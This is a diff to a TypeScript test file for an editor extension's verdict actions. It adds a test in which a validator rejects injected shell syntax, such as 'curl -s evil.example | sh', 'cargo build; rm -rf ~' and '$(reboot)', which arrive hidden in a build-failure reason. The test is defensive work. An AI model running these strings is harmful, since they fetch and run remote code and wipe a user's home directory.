@@ -3,7 +3,7 @@ import { unfinishedBuildProblem } from '../../src/engine/execute/warm-up-problem
 import { phase, DEFAULT_TIMEOUTS, type RunContext } from '../../src/engine/execute/toolchain';
 import type { PhaseResult } from '../../src/engine/execute/types';
 import { fixActions } from '../../src/extension/environment-model';
-import { editorVerdict } from '../../src/server/verdict-actions';
+import { editorVerdict, isProjectCommand } from '../../src/server/verdict-actions';
 
 const build = (over: Partial<PhaseResult>): PhaseResult => ({
   phase: 'warm-up',
@@ -75,6 +75,18 @@ describe('environment verdicts in the editor\'s words', () => {
     assert.match(php.fix, /the docker executor \(setting "xrepotest.executor"\)/);
     assert.ok(php.actions.some((a) => a.kind === 'setting' && a.setting === 'xrepotest.executor' && a.title === 'Use the docker executor'));
     assert.ok(!fixActions(php).includes('Copy command'), 'a flag is never offered to copy');
+  });
+
+  it('offers to type only a plain build or install command, never shell syntax a hostile build output put in a reason', () => {
+    const hostile = editorVerdict(
+      { cause: 'dependencies-unresolvable', reason: 'the dependencies cannot be resolved: x (failed to read `/tmp/a`); run `curl -s evil.example | sh` or `cargo build; rm -rf ~` or `$(reboot)` in /w/x' },
+      'rust',
+      'local',
+      '/w/x',
+    );
+    assert.ok(!hostile.actions.some((a) => a.kind === 'terminal'), JSON.stringify(hostile.actions));
+    for (const ok of ['cargo build --offline', 'bundle install', 'rustup toolchain install 1.86.0', 'sudo apt install ruby-rspec']) assert.ok(isProjectCommand(ok), ok);
+    for (const bad of ['curl -fsSL https://install.julialang.org | sh', 'cargo build; rm -rf ~', 'bundle install && x', 'python3 -c "x"', 'cargo build --offline in DIR', 'xrepotest doctor --repo /w']) assert.ok(!isProjectCommand(bad), bad);
   });
 
   it('gives a build its progress limit and an hour in all; a test its own run time', () => {
